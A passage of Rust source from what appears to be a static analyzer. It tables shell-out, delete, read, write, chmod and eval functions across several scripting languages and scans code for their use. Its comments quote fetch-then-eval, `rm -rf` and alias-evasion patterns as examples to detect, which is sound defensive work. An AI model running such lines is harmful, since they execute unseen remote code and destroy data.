            ("spawnl", SPAWN_L),
            ("spawnlp", SPAWN_L),
            ("spawnle", SPAWN_L),
            ("spawnlpe", SPAWN_L),
            ("create_subprocess_exec", PROGRAM_ARGS),
            ("create_subprocess_shell", Shell),
            ("chmod", CHMOD),
            ("lchmod", CHMOD),
            ("chown", CHOWN),
            ("lchown", CHOWN),
            ("rename", Move),
            ("renames", Move),
            ("symlink", Link { hard: false }),
            ("symlink_to", Link { hard: false }),
            ("link", Link { hard: true }),
            ("truncate", Truncate),
            ("rmtree", DeleteTree),
            ("remove", Delete),
            ("unlink", Delete),
            ("rmdir", Delete),
            ("removedirs", Delete),
            ("open", Read),
            ("read_text", Read),
            ("write_text", WriteReceiver),
            ("write_bytes", WriteReceiver),
            ("copy", Copy),
            ("copy2", Copy),
            ("copyfile", Copy),
            ("move", Move),
            ("replace", Move),
            ("walk", Walk),
            ("listdir", Walk),
            ("scandir", Walk),
            ("glob", Walk),
            ("iglob", Walk),
            ("rglob", WalkReceiver),
            ("iterdir", WalkReceiver),
            ("exec", Exec),
            ("eval", Exec),
        ],
        Lang::Perl => &[
            ("system", Shell),
            ("exec", Shell),
            ("qx", Shell),
            ("rmtree", DeleteTree),
            ("remove_tree", DeleteTree),
            ("unlink", Delete),
            ("rmdir", Delete),
            ("open", PerlOpen),
            ("eval", Exec),
            // IPC::Open2/Open3, IPC::Run: a program and its words.
            ("open2", OPEN2),
            ("open3", OPEN3),
            ("chmod", CHMOD_MODE_FIRST),
            ("chown", CHOWN_OWNER_FIRST),
            ("rename", Move),
            ("move", Move),
            ("symlink", Link { hard: false }),
            ("link", Link { hard: true }),
            ("truncate", Truncate),
        ],
        Lang::Ruby => &[
            ("system", Shell),
            // Rake's (FileUtils') shell-out, in a Rakefile's tasks.
            ("sh", Shell),
            ("exec", Shell),
            ("spawn", Shell),
            ("popen", Shell),
            ("capture2", Shell),
            ("capture2e", Shell),
            ("capture3", Shell),
            ("popen3", Shell),
            ("rm_rf", DeleteTree),
            ("rm_r", DeleteTree),
            ("remove_dir", DeleteTree),
            ("remove_entry", DeleteTree),
            ("remove_entry_secure", DeleteTree),
            ("rmtree", DeleteTree),
            ("rm", Delete),
            ("rm_f", Delete),
            ("delete", Delete),
            ("unlink", Delete),
            ("read", Read),
            ("readlines", Read),
            ("binread", Read),
            ("write", Write),
            ("binwrite", Write),
            ("cp", Copy),
            ("mv", Move),
            ("rename", Move),
            ("install", Copy),
            ("chmod", CHMOD_MODE_FIRST),
            ("chmod_R", CHMOD_MODE_FIRST),
            ("chown", CHOWN_OWNER_FIRST),
            ("chown_R", CHOWN_OWNER_FIRST),
            ("symlink", Link { hard: false }),
            ("ln_s", Link { hard: false }),
            ("ln_sf", Link { hard: false }),
            ("truncate", Truncate),
            ("find", Walk),
            ("children", Walk),
            ("each_child", Walk),
            ("eval", Exec),
            ("instance_eval", Exec),
            ("class_eval", Exec),
            ("module_eval", Exec),
        ],
        Lang::Js => &[
            ("eval", Exec),
            ("Function", Exec),
            ("execSync", Shell),
            ("exec", Shell),
            ("spawnSync", ProgramList),
            ("spawn", ProgramList),
            ("execFileSync", ProgramList),
            ("execFile", ProgramList),
            ("rmSync", DeleteMaybeTree),
            ("rm", DeleteMaybeTree),
            ("rmdirSync", DeleteMaybeTree),
            ("rmdir", DeleteMaybeTree),
            ("removeSync", DeleteMaybeTree),
            ("remove", DeleteMaybeTree),
            ("emptyDirSync", DeleteTree),
            ("emptyDir", DeleteTree),
            ("unlinkSync", Delete),
            ("unlink", Delete),
            ("readFileSync", Read),
            ("readFile", Read),
            ("readTextFileSync", Read),
            ("readTextFile", Read),
            ("file", Read),
            ("writeFileSync", Write),
            ("writeFile", Write),
            ("appendFileSync", Write),
            ("appendFile", Write),
            ("writeTextFileSync", Write),
            ("writeTextFile", Write),
            ("copyFileSync", Copy),
            ("copyFile", Copy),
            ("cpSync", Copy),
            ("renameSync", Move),
            ("rename", Move),
            ("moveSync", Move),
            ("chmodSync", CHMOD),
            ("chmod", CHMOD),
            ("lchmodSync", CHMOD),
            ("chownSync", CHOWN),
            ("chown", CHOWN),
            ("lchownSync", CHOWN),
            ("symlinkSync", Link { hard: false }),
            ("symlink", Link { hard: false }),
            ("linkSync", Link { hard: true }),
            ("truncateSync", Truncate),
            ("truncate", Truncate),
            ("readdirSync", Walk),
            ("readdir", Walk),
        ],
        Lang::Php => &[
            ("eval", Exec),
            ("system", Shell),
            ("exec", Shell),
            ("shell_exec", Shell),
            ("passthru", Shell),
            ("popen", Shell),
            ("proc_open", Shell),
            ("unlink", Delete),
            ("rmdir", Delete),
            ("file_get_contents", Read),
            ("readfile", Read),
            ("fopen", Read),
            ("file", Read),
            ("file_put_contents", Write),
            ("copy", Copy),
            ("rename", Move),
            ("chmod", CHMOD),
            ("chown", CHOWN),
            ("symlink", Link { hard: false }),
            ("link", Link { hard: true }),
            ("pcntl_exec", ProgramList),
            ("scandir", Walk),
            ("glob", Walk),
        ],
        Lang::Lua => &[
            ("execute", Shell),
            ("popen", Shell),
            // xmake's `os.exec`, `os.execv`, `os.rm` (files and folders), `os.rmdir`
            ("exec", Shell),
            ("execv", ProgramList),
            ("rm", DeleteTree),
            ("rmdir", DeleteTree),
            ("remove", Delete),
            ("rename", Move),
            // Neovim's `vim.fn.delete(p, 'rf')`.
            ("delete", DeleteMaybeTree),
            ("open", Read),
            ("lines", Read),
        ],
        Lang::R => &[
            ("system", Shell),
            ("system2", ProgramList),
            ("shell", Shell),
            ("unlink", DeleteMaybeTree),
            ("file.remove", Delete),
            ("file.rename", Move),
            ("Sys.chmod", CHMOD),
            ("readLines", Read),
            ("readRDS", Read),
            ("read.csv", Read),
        ],
        Lang::Awk => &[("system", Shell)],
        Lang::Julia => &[
            ("run", Shell),
            ("rm", DeleteMaybeTree),
            ("write", Write),
            ("cp", Copy),
            ("mv", Move),
            ("chmod", CHMOD),
            ("chown", CHOWN),
            ("symlink", Link { hard: false }),
            ("walkdir", Walk),
            ("readdir", Walk),
            ("read", Read),
            ("readlines", Read),
        ],
        _ => &[],
    }
}

/// Mask string literals and comments with spaces (same length, in chars), so
/// names are only found in code.
fn mask(lang: Lang, src: &[char]) -> Vec<char> {
    let mut out = src.to_vec();
    let mut k = 0;
    let comment_hash = matches!(
        lang,
        Lang::Python | Lang::Perl | Lang::Ruby | Lang::R | Lang::Awk | Lang::Julia
    );
    while k < src.len() {
        let c = src[k];
        if matches!(c, '\'' | '"') || (c == '`' && matches!(lang, Lang::Js | Lang::Julia)) {
            if let Some((_, end)) = literal_at(lang, src, k) {
                for o in out.iter_mut().take(end.saturating_sub(1)).skip(k + 1) {
                    *o = ' ';
                }
                k = end;
                continue;
            }
            // Unterminated: the rest is text.
            for o in out.iter_mut().skip(k + 1) {
                *o = ' ';
            }
            break;
        }
        let line_comment = (c == '#'
            && comment_hash
            && !(lang == Lang::Perl && k > 0 && src[k - 1] == '$'))
            || (c == '/' && src.get(k + 1) == Some(&'/') && matches!(lang, Lang::Js | Lang::Php))
            || (c == '-' && src.get(k + 1) == Some(&'-') && lang == Lang::Lua);
        if line_comment {
            while k < src.len() && src[k] != '\n' {
                out[k] = ' ';
                k += 1;
            }
            continue;
        }
        k += 1;
    }
    out
}

fn is_ident(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

/// Shell-outs, deletes and reads of a general-purpose language.
fn calls(lang: Lang, code: &str) -> Vec<Effect> {
    let src: Vec<char> = code.chars().collect();
    let masked = mask(lang, &src);
    let mut out = Vec::new();
    // Backticks (Perl, Ruby, PHP) and `%x(…)`, `qx{…}`; Bun's `$` template.
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
        let mut k = 0;
        while k < src.len() {
            if masked[k] == '`' {
                if let Some(end) = src[k + 1..].iter().position(|c| *c == '`') {
                    let text: String = src[k + 1..k + 1 + end].iter().collect();
                    let (sym, _) =
                        literal_at(lang, &format!("\"{text}\"").chars().collect::<Vec<_>>(), 0)
                            .unwrap_or((Sym::text(&text), 0));
                    out.push(Effect::Shell(sym));
                    k += end + 2;
                    continue;
                }
            }
            let two: String = masked[k..(k + 3).min(src.len())].iter().collect();
            if (two.starts_with("%x") || two.starts_with("qx"))
                && (k == 0 || !is_ident(masked[k - 1]))
            {
                if let Some(open) = src.get(k + 2).copied() {
                    let close = match open {
                        '(' => Some(')'),
                        '{' => Some('}'),
                        '[' => Some(']'),
                        '|' | '/' | '!' => Some(open),
                        _ => None,
                    };
                    if let Some(close) = close {
                        if let Some(end) = src[k + 3..].iter().position(|c| *c == close) {
                            let text: String = src[k + 3..k + 3 + end].iter().collect();
                            out.push(Effect::Shell(Sym::text(&text)));
                            k += end + 4;
                            continue;
                        }
                    }
                }
            }
            k += 1;
        }
    }
    if lang == Lang::Js {
        // Bun's shell: `` $`cmd` ``.
        for k in 0..src.len().saturating_sub(1) {
            if masked[k] == '$' && masked[k + 1] == '`' {
                if let Some((sym, _)) = literal_at(lang, &src, k + 1) {
                    out.push(Effect::Shell(sym));
                }
            }
        }
    }
    if lang == Lang::Awk {
        awk_pipes(&src, &masked, &mut out);
    }
    if evaluator_passed(lang, &masked) {
        // `.then(eval)`, `[…].map(Function)`: it runs whatever it is given.
        out.push(Effect::Dynamic);
    }
    let names = table(lang);
    let bound = bound_names(names, &masked);
    // Trees the code lists or walks, and whether it deletes paths nobody can
    // name (the walk's entries): then it deletes everything in those trees.
    let mut walks: Vec<Value> = Vec::new();
    let mut deletes_entries = false;
    let mut k = 0;
    while k < src.len() && out.len() < MAX_EFFECTS {
        if !is_ident(masked[k]) || (k > 0 && is_ident(masked[k - 1])) {
            k += 1;
            continue;
        }
        let mut e = k;
        while e < src.len() && (is_ident(masked[e]) || (masked[e] == '.' && lang == Lang::R)) {
            e += 1;
        }
        let name: String = src[k..e].iter().collect();
        let own = names
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(n, kind)| (*n, kind));
        let bound = || {
            bound
                .iter()
                .find(|(b, _, _)| *b == name)
                .map(|(_, n, kind)| (*n, *kind))
        };
        let Some((name, kind)) = own.or_else(bound) else {
            k = e;
            continue;
        };
        // Arguments: `(…)`, or (Perl, Ruby) a literal after a space; a
        // bound name may be called through `.call(…)` (Ruby) or `->(…)`
        // (Perl).
        let mut a = e;
        while a < src.len() && src[a] == ' ' {
            a += 1;
        }
        if own.is_none() {
            let rest: String = masked[a..(a + 5).min(src.len())].iter().collect();
            if rest.starts_with(".call") {
                a += 5;
            } else if rest.starts_with("->") {
                a += 2;
            }
        }
        let receiver = receiver(&src, &masked, k);
        let args: Vec<String> = if src.get(a) == Some(&'(') {
            match matching(&src, a) {
                Some(close) => {
                    let mut inner: String = src[a + 1..close].iter().collect();
                    if lang == Lang::Julia {
                        // `rm(p; recursive=true)`: keywords after `;`.
                        inner = inner.replace(';', ",");
                    }
                    k = close + 1;
                    split_args(&inner)
                }
                None => {
                    out.push(Effect::Dynamic);
                    break;
                }
            }
        } else if matches!(lang, Lang::Perl | Lang::Ruby)
            && a > e
            && src
                .get(a)
                .is_some_and(|c| matches!(c, '\'' | '"' | '$') || c.is_alphanumeric())
        {
            // Up to the end of the statement (a `}` closing its block).
            let mut depth = 0i32;
            let end = (a..src.len())
                .find(|i| {
                    match masked[*i] {
                        '{' | '(' | '[' => depth += 1,
                        '}' | ')' | ']' => depth -= 1,
                        _ => {}
                    }
                    masked[*i] == ';' || masked[*i] == '\n' || depth < 0
                })
                .unwrap_or(src.len());
            let inner: String = src[a..end].iter().collect();
            k = end;
            split_args(&inner)
        } else {
            k = e;
            continue;
        };
        match kind {
            Kind::Walk => walks.push(walk_root(lang, args.first().map(String::as_str))),
            Kind::WalkReceiver => walks.push(walk_root(lang, receiver.as_deref())),
            Kind::WriteReceiver => {
                if let Some(r) = &receiver {
                    let path = eval(lang, r);
                    if path.literal().is_some() || has_known(&path) {
                        out.push(Effect::Write {
                            path,
                            append: false,
                        });
                    }
                }
            }
            Kind::Delete | Kind::DeleteTree | Kind::DeleteMaybeTree => {
                // `os.remove(os.path.join(root, f))`, `p.unlink()`.
                let named = args.first().map(|a| eval(lang, a));
                if named
                    .is_none_or(|v| v.has_unknown() || (v.literal().is_none() && !has_known(&v)))
                {
                    deletes_entries = true;
                }
                call(lang, name, *kind, &args, receiver.as_deref(), &mut out);
            }
            _ => call(lang, name, *kind, &args, receiver.as_deref(), &mut out),
        }
    }
    dispatch::effects(lang, &src, &masked, &mut out);
    if deletes_entries {
        for root in walks {
            let mut path = Value::default();
            for s in root.0 {
                let mut s = s;
                s.push(Piece::Below);
                path.add(s);
            }
            out.push(Effect::Delete {
                recursive: true,
                path,
            });
        }
    }
    out
}

/// Names the code binds to a function of the table, with that function
/// (cause from redteam5: `from os import system as s; s(…)`): an import's
/// alias (`from M import F as N`, JS `import {F as N}`), a destructured
/// binding (`const {F: N} = require(…)`, `({F: N}) => …`), a reference
/// assigned (`N = os.F`, `const N = require(…).F`, Perl `my $N = \&CORE::F`),
/// Ruby's `N = method(:F)`. Read in the masked code: names in strings and
/// comments bind nothing.
fn bound_names(
    names: &'static [(&'static str, Kind)],
    masked: &[char],
) -> Vec<(String, &'static str, &'static Kind)> {
    let text: String = masked.iter().collect();
    let of = |f: &str| names.iter().find(|(n, _)| *n == f).map(|(n, k)| (*n, k));
    let ident = |s: &str| {
        let s = s.trim().trim_start_matches(['$', '@']);
        (!s.is_empty() && s.chars().all(|c| is_ident(c) || c == '$')).then(|| s.to_string())
    };
    let mut out: Vec<(String, &'static str, &'static Kind)> = Vec::new();
    let mut bind = |n: Option<String>, f: &str| {
        if let (Some(n), Some((f, k))) = (n, of(f)) {
            if n != f && out.len() < MAX_EFFECTS {
                out.push((n, f, k));
            }
        }
    };
    // `F as N` (Python's imports, JS's named imports).
    let words: Vec<&str> = text
        .split(|c: char| !(is_ident(c) || c == '$'))
        .filter(|w| !w.is_empty())
        .collect();
    for w in words.windows(3) {
        if w[1] == "as" {
            bind(ident(w[2]), w[0]);
        }
    }
    // `{F: N, …}`: destructuring.
    for part in text.split('{').skip(1) {
        let inner = part.split('}').next().unwrap_or_default();
        for entry in inner.split(',') {
            if let Some((f, n)) = entry.split_once(':') {
                if !n.contains([':', '(', '=']) {
                    bind(ident(n), f.trim());
                }
            }
        }
    }
    // `N = …F` ending the statement: a reference, not a call.
    for stmt in text.split([';', '\n']) {
        let Some((lhs, rhs)) = stmt.split_once('=') else {
            continue;
        };
        if rhs.starts_with(['=', '~']) || lhs.ends_with(['!', '<', '>', '=']) {
            continue;
        }
        let lhs = lhs.split_whitespace().last().unwrap_or_default();
        let rhs = rhs.trim();
        let target = match rhs.strip_prefix("method(") {
            // Ruby: `method(:system)`
            Some(r) => r
                .trim_start_matches([' ', ':'])
                .trim_end_matches([')', ' ']),
            None if rhs.ends_with(')') => continue,
            None => rhs.rsplit(['.', ':', '&', ' ']).next().unwrap_or_default(),
        };
        bind(ident(lhs), target);
    }
    out
}

/// Is an evaluator (`eval`, `Function`) handed on as a value rather than
/// called (`fetch(u).then(r => r.text()).then(eval)`)? Whatever reaches it
/// runs, and nobody can read it beforehand.
fn evaluator_passed(lang: Lang, masked: &[char]) -> bool {
    if lang != Lang::Js {
        return false;
    }
    let text: String = masked.iter().collect();
    ["eval", "Function"].iter().any(|name| {
        text.match_indices(name).any(|(at, _)| {
            let before = text[..at].trim_end();
            let after = text[at + name.len()..].trim_start();
            let word = !text[..at].ends_with(|c: char| is_ident(c) || c == '.')
                && !text[at + name.len()..].starts_with(|c: char| is_ident(c));
            let ends = after.is_empty() || after.starts_with([')', ',', ';', ']', '}']);
            word && ends
                && (before.ends_with(['(', ',', '=', ':', '?']) || before.ends_with("return"))
        })
    })
}

/// Where the expression that ends just before `end` in `masked` starts,
/// walking back over names, the characters of `joiners` (`.`, Perl's `$`)
/// and whole calls and subscripts (`vars(os)`, `sys.modules[n]`); `None`
/// when a bracket has no opening one.
pub(super) fn expr_start(masked: &[char], end: usize, joiners: &[char]) -> Option<usize> {
    let mut i = end;
    while i > 0 {
        let c = masked[i - 1];
        if matches!(c, ')' | ']') {
            let open = if c == ')' { '(' } else { '[' };
            let mut depth = 0usize;
            let mut j = i;
            loop {
                if j == 0 {
                    return None;
                }
                j -= 1;
                if masked[j] == c {
                    depth += 1;
                } else if masked[j] == open {
                    depth -= 1;
                    if depth == 0 {
                        break;
                    }
                }
            }
            i = j;
        } else if is_ident(c) || joiners.contains(&c) {
            i -= 1;
        } else {
            break;
        }
    }
    Some(i)
}

/// The expression a method is called on (`Path(p).rglob` → `Path(p)`), when
/// the name at `k` follows a `.`.
fn receiver(src: &[char], masked: &[char], k: usize) -> Option<String> {
    if k < 2 || masked[k - 1] != '.' {
        return None;
    }
    let end = k - 1;
    let i = expr_start(masked, end, &['.'])?;
    (i < end).then(|| src[i..end].iter().collect())
}

/// The tree a listing or walk goes through: its argument (the working folder
/// without one), or for a pattern (`P + '/**/*'`) the folder before the first
/// wildcard.
fn walk_root(lang: Lang, arg: Option<&str>) -> Value {
    let Some(arg) = arg else {
        return Value::one(Sym::piece(Piece::Start));
    };
    let v = eval(lang, arg);
    let mut out = Value::default();
    for s in v.0 {
        let mut root = Sym::default();
        for p in s.0 {
            match p {
                Piece::Text(t) | Piece::Glob(t) if t.contains(['*', '?', '[']) => {
                    let cut = t.find(['*', '?', '[']).unwrap_or(0);
                    let head = t[..cut]
                        .trim_end_matches(|c| c != '/')
                        .trim_end_matches('/');
                    if !head.is_empty() {
                        root.push(Piece::Text(head.to_string()));
                    }
                    break;
                }
                p => root.push(p),
            }
        }
        if root.is_empty() {
            root = Sym::piece(Piece::Start);
        }
        out.add(root);
    }
    out
}

/// What one call does.
/// Is the code a file's text (`open(f).read()`, `io.open(f)`,
/// `Path(f).read_text()`), not a download's (`urlopen(URL).read()`,
/// `URI.open(URL)` is a URL's)? A name ending in `open` (`urlopen`, `popen`) is
/// another call.
fn reads_a_file(expr: &str) -> bool {
    let named = |call: &str| {
        expr.match_indices(call)
            .any(|(at, _)| !expr[..at].chars().next_back().is_some_and(is_ident))
    };
    let url = ["http://", "https://", "ftp://", "php://", "data:"]
        .iter()
        .any(|u| expr.contains(u));
    (named("open(") && !expr.contains("URI.open(")) || named("read_text(")
        // PHP's file_get_contents of a path, not of an address.
        || (named("file_get_contents(") && !url)
}

/// A Python keyword argument (`check=True`, `env = {…}`), not `a == b`.
fn is_keyword_arg(arg: &str) -> bool {
    let t = arg.trim_start();
    let name_len = t
        .chars()
        .take_while(|c| is_ident(*c))
        .map(char::len_utf8)
        .sum::<usize>();
    name_len > 0 && {
        let rest = t[name_len..].trim_start();
        rest.starts_with('=') && !rest.starts_with("==")
    }
}

fn call(
    lang: Lang,
    name: &str,
    kind: Kind,
    args: &[String],
    receiver: Option<&str>,
    out: &mut Vec<Effect>,
) {
    // A path object's own method (`Path(p).chmod(0)`, `p.symlink_to(t)`):
    // the receiver is the path, the arguments follow it.
    let on_path = lang == Lang::Python
        && receiver.is_some_and(|r| !matches!(r.rsplit('.').next(), Some("os" | "shutil")));
    let mut with_receiver: Vec<String> = Vec::new();
    let args = match (kind, receiver) {
        (Kind::Meta { .. } | Kind::Link { .. } | Kind::Truncate, Some(r)) if on_path => {
            with_receiver.push(r.to_string());
            with_receiver.extend(args.iter().cloned());
            // `p.symlink_to(t)`: a link at `p` to `t`.
            if matches!(kind, Kind::Link { .. }) && with_receiver.len() > 1 {
                with_receiver.swap(0, 1);
            }
            with_receiver.as_slice()
        }
        _ => args,
    };
    let Some(first) = args.first() else {
        return;
    };
    let list = |s: &str| -> Option<Vec<Value>> {
        let s = s.trim();
        let inner = s
            .strip_prefix('[')
            .and_then(|r| r.strip_suffix(']'))
            .or_else(|| s.strip_prefix("c(").and_then(|r| r.strip_suffix(')')))?;
        Some(split_args(inner).iter().map(|a| eval(lang, a)).collect())
    };
    // Generic names (`run`, `call`, `exec`, `open`…) only count with a literal
    // or list argument; the specific ones also with anything else.
    let generic = matches!(
        name,
        "run"
            | "local"
            | "call"
            | "exec"
            | "spawn"
            | "popen"
            | "open"
            | "remove"
            | "rm"
            | "delete"
            | "read"
            | "file"
            | "lines"
            | "unlink"
            | "rmdir"
            | "rename"
            | "move"
            | "link"
            | "symlink"
            | "truncate"
            | "chmod"
            | "chown"
    ) && !(matches!(
        kind,
        Kind::Shell | Kind::ProgramList | Kind::ProgramArgs { .. }
    ) && process_module(receiver));
    // An argument known enough to judge: literal, or a place the analysis
    // resolves (home, the project).
    let known = |v: &Value| v.literal().is_some() || has_known(v);
    match kind {
        Kind::Shell => {
            if let Some(words) = list(first) {
                out.push(Effect::Words(words));
                return;
            }
            let v = eval(lang, first);
            // Several arguments that are all literal: a program and its words
            // (Perl's `system("rm", "-rf", $x)`, Ruby's `system("rm", "-rf", x)`).
            let literal_args =
                args.len() > 1 && matches!(lang, Lang::Perl | Lang::Ruby) && v.literal().is_some();
            if literal_args {
                out.push(Effect::Words(args.iter().map(|a| eval(lang, a)).collect()));
                return;
            }
            // nox's and Python runners' `session.run("rm", "-rf", x, silent=True)`: a
            // program and its words, given one an argument (keywords left out).
            let positional: Vec<&String> = args.iter().filter(|a| !is_keyword_arg(a)).collect();
            if lang == Lang::Python
                && name == "run"
                && positional.len() > 1
                && v.literal().is_some_and(|p| !p.contains(' '))
            {
                out.push(Effect::Words(
                    positional.iter().map(|a| eval(lang, a)).collect(),
                ));
                return;
            }
            let whole_unknown = |s: &Sym| matches!(s.0.as_slice(), [Piece::Unknown(_)]);
            match v.0.as_slice() {
                // One command line, or one of a few (`'rm -rf ' + (h || d)`): each may run.
                alts if !alts.is_empty() && !alts.iter().any(whole_unknown) => {
                    out.extend(alts.iter().map(|s| Effect::Shell(s.clone())));
                }
                _ if generic => {}
                _ => out.push(Effect::Dynamic),
            }
        }
        Kind::ProgramList => {
            let mut words = vec![eval(lang, first)];
            if let Some(rest) = args.get(1).and_then(|a| list(a)) {
                words.extend(rest);
            }
            if words.iter().all(|w| w.literal().is_none()) && generic {
                return;
            }
            // A program nobody can name (`os.execvp(sys.argv[1], …)`): what
            // runs is unknown code.
            if words[0].literal().is_none() {
                out.push(Effect::Dynamic);
            }
            out.push(Effect::Words(words));
        }
        Kind::ProgramArgs { skip, argv0 } => {
            let positional: Vec<&String> = args.iter().filter(|a| !is_keyword_arg(a)).collect();
            let Some(program) = positional.get(skip) else {
                return;
            };
            let from = skip + 1 + usize::from(argv0);
            let mut words = vec![eval(lang, program)];
            words.extend(
                positional
                    .get(from..)
                    .unwrap_or_default()
                    .iter()
                    .map(|a| eval(lang, a)),
            );
            // Perl's `open3($in, $out, $err, "rm -rf x")`: one string is a
            // command line for the shell.
            if let [one] = words.as_slice() {
                if let Some(line) = one.literal().filter(|l| l.contains(' ')) {
                    out.push(Effect::Shell(Sym::text(&line)));
                    return;
                }
            }
            if words[0].literal().is_none() {
                out.push(Effect::Dynamic);
            }
            out.push(Effect::Words(words));
        }
        Kind::Meta { program, lead } => {
            let (setting, paths): (Option<&String>, Vec<&String>) = if lead == 0 {
                (args.get(1), vec![first])
            } else {
                (args.first(), args.iter().skip(lead).collect())
            };
            let setting = setting.map_or_else(|| Value::unknown("mode"), |m| mode_value(lang, m));
            for p in paths {
                let targets = list_values(lang, p).unwrap_or_else(|| vec![eval(lang, p)]);
                for path in targets {
                    if generic && !known(&path) {
                        continue;
                    }
                    out.push(Effect::Words(vec![
                        Value::text(program),
                        setting.clone(),
                        path,
                    ]));
                }
            }
        }
        Kind::Move | Kind::Link { .. } => {
            let (Some(from), Some(to)) = (args.first(), args.get(1)) else {
                return;
            };
            let (from, to) = (eval(lang, from), eval(lang, to));
            if generic && !known(&from) && !known(&to) {
                return;
            }
            let mut words = match kind {
                Kind::Link { hard: false } => vec![Value::text("ln"), Value::text("-s")],
                Kind::Link { hard: true } => vec![Value::text("ln")],
                _ => vec![Value::text("mv")],
            };
            words.extend([from, to]);
            out.push(Effect::Words(words));
        }
        Kind::Truncate => {
            let path = eval(lang, first);
            if generic && !known(&path) {
                return;
            }
            let size = args
                .get(1)
                .map_or_else(|| Value::text("0"), |n| mode_value(lang, n));
            out.push(Effect::Words(vec![
                Value::text("truncate"),
                Value::text("-s"),
                size,
                path,
            ]));
        }
        Kind::DeleteTree | Kind::DeleteMaybeTree | Kind::Delete => {
            let recursive = match kind {
                Kind::DeleteTree => true,
                Kind::DeleteMaybeTree => {
                    args.iter().skip(1).any(|a| {
                        let c: String = a.chars().filter(|c| !c.is_whitespace()).collect();
                        c.contains("recursive:true")
                            || c.contains("recursive=true")
                            || c.contains("recursive=TRUE")
                            || c.contains("recursive=T")
                            // Vim's `delete(p, 'rf')`
                            || (name == "delete" && (c == "'rf'" || c == "\"rf\""))
                    }) || name == "removeSync"
                }
                _ => false,
            };
            let targets: &[String] = if lang == Lang::Perl && kind == Kind::Delete {
                args
            } else {
                std::slice::from_ref(first)
            };
            for t in targets {
                let path = eval(lang, t);
                if generic && path.literal().is_none() && !has_known(&path) {
                    continue;
                }
                out.push(Effect::Delete { recursive, path });
            }
        }
        Kind::Read => {
            // `open(path, 'w')` writes.
            if name == "open" && lang == Lang::Python {
                let mode = args
                    .iter()
                    .skip(1)
                    .map(|m| m.strip_prefix("mode=").unwrap_or(m))
                    .find_map(|m| eval(lang, m).literal());
                if let Some(mode) = mode.filter(|m| m.contains(['w', 'a', 'x', '+'])) {
                    let path = eval(lang, first);
                    if path.literal().is_some() || has_known(&path) {
                        out.push(Effect::Write {
                            path,
                            append: mode.contains('a'),
                        });
                    }
                    if !mode.contains('+') {
                        return;
                    }
                }
            }
            let path = eval(lang, first);
            if path.literal().is_some() || has_known(&path) {
                out.push(Effect::Read(path));
            }
        }
        Kind::Write => {
            let path = eval(lang, first);
            if path.literal().is_some() || has_known(&path) {
                out.push(Effect::Write {
                    path,
                    append: name.to_ascii_lowercase().contains("append"),
                });
            }
        }
        Kind::Copy => {
            let from = eval(lang, first);
            if from.literal().is_some() || has_known(&from) {
                out.push(Effect::Read(from));
            }
            if let Some(to) = args.get(1).map(|a| eval(lang, a)) {
                if to.literal().is_some() || has_known(&to) {
                    out.push(Effect::Write {
                        path: to,
                        append: false,
                    });
                }
            }
        }
        Kind::Exec => {
            // Literal code is scanned as code; a file's text (`exec(open(f).read())`)
            // is a script file; anything else (decoded, built) is not known.
            match eval(lang, first).literal() {
                Some(code) => out.extend(calls(lang, &code)),
                None if reads_a_file(first) => {}
                None => out.push(Effect::Dynamic),
            }
        }
        Kind::Walk | Kind::WalkReceiver | Kind::WriteReceiver => {}
        Kind::PerlOpen => {
            let Some(last) = args.last().filter(|_| args.len() > 1) else {
                return;
            };
            let mode = if args.len() > 2 {
                eval(lang, &args[1]).literal().unwrap_or_default()
            } else {
                String::new()
            };
            if mode.contains('|') {
                return;
            }
            if mode.contains('>') {
                let path = eval(lang, last);
                if path.literal().is_some() || has_known(&path) {
                    out.push(Effect::Write {
                        path,
                        append: mode.contains(">>"),
                    });
                }
                return;
            }
            let v = eval(lang, last);
            if args.len() == 2 {
                if let Some(t) = v.literal() {
                    let t = t.trim();
                    if t.ends_with('|') {
                        out.push(Effect::Shell(Sym::text(t.trim_end_matches('|'))));
                        return;
                    }
                    if let Some(p) = t.strip_prefix('>') {
                        let append = p.starts_with('>');
                        out.push(Effect::Write {
                            path: Value::text(p.trim_start_matches('>').trim()),
                            append,
                        });
                        return;
                    }
                    if t.starts_with('|') {
                        return;
                    }
                    out.push(Effect::Read(Value::text(t.trim_start_matches('<').trim())));
                    return;
                }
            }
            out.push(Effect::Read(v));
        }
    }
}

/// Is the receiver a module that runs processes (`subprocess.run`,
/// `os.spawnv`, `pty.spawn`, `Open3.popen3`, `child_process.spawn`)? Then
/// a generic name (`run`, `spawn`, `call`) is that module's own, whatever
/// its arguments: a command nobody can read is unknown code.
fn process_module(receiver: Option<&str>) -> bool {
    let Some(r) = receiver else {
        return false;
    };
    let last = r.rsplit(['.', ':']).next().unwrap_or(r).trim();
    matches!(
        last,
        "subprocess" | "os" | "pty" | "Open3" | "PTY" | "Process" | "Kernel" | "child_process"
    ) || r.contains("child_process")
}

/// A numeric setting written in code (a mode `0o755`, `0755`, `'644'`, a
/// length), as the shell's text; anything else is unknown.
fn mode_value(lang: Lang, expr: &str) -> Value {
    let t = expr.trim();
    let digits = t
        .strip_prefix("0o")
        .or_else(|| t.strip_prefix("0O"))
        .map_or_else(|| t.to_string(), |d| format!("0{d}"));
    if !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit()) {
        return Value::text(&digits);
    }
    match eval(lang, t).literal() {
        Some(l) => Value::text(&l),
        None => Value::unknown(t),
    }
}

/// The values of a list literal (`[a, b]`, R's `c(a, b)`), `None` for any
/// other expression.
fn list_values(lang: Lang, expr: &str) -> Option<Vec<Value>> {
    let s = expr.trim();
    let inner = s
        .strip_prefix('[')
        .and_then(|r| r.strip_suffix(']'))
        .or_else(|| s.strip_prefix("c(").and_then(|r| r.strip_suffix(')')))?;
    Some(split_args(inner).iter().map(|a| eval(lang, a)).collect())
}

/// Does a value hold a place the analysis resolves (home, cwd, project)?
fn has_known(v: &Value) -> bool {
    v.0.iter().any(|s| {
        s.0.iter()
            .any(|p| matches!(p, Piece::Home | Piece::Start | Piece::Project))
    })
}

/// awk: `"cmd" | getline`, `print … | "cmd"`, and `NAME | getline` / `system(NAME)`
/// where `NAME = "cmd"` was assigned.
fn awk_pipes(src: &[char], masked: &[char], out: &mut Vec<Effect>) {
    let text: String = src.iter().collect();
    let m: String = masked.iter().collect();
    // Assignments of literals.
    let mut vars: Vec<(String, Sym)> = Vec::new();
    let chars = src;
    for (i, _) in m.match_indices('=') {
        let ci = m[..i].chars().count();
        if masked.get(ci + 1) == Some(&'=')
            || ci == 0
